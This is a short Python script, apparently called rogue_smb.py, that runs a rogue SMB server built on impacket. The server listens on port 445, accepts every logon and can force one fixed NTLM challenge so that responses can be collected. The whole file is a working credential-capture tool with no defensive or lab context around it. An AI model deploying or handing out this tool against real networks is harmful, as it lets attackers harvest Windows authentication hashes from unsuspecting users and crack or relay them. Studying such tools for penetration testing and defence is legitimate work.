"""impacket's SMB server, which takes every logon.

usage: rogue_smb.py [CHALLENGE]    one challenge for everybody, as tools that collect responses have it
"""

import sys
import tempfile

from impacket.smbserver import SimpleSMBServer

server = SimpleSMBServer(listenAddress="0.0.0.0", listenPort=445)
server.setSMB2Support(True)
if sys.argv[1:]:
    server.setSMBChallenge(sys.argv[1])
server.addShare("DATA", tempfile.mkdtemp(), "")
server.start()
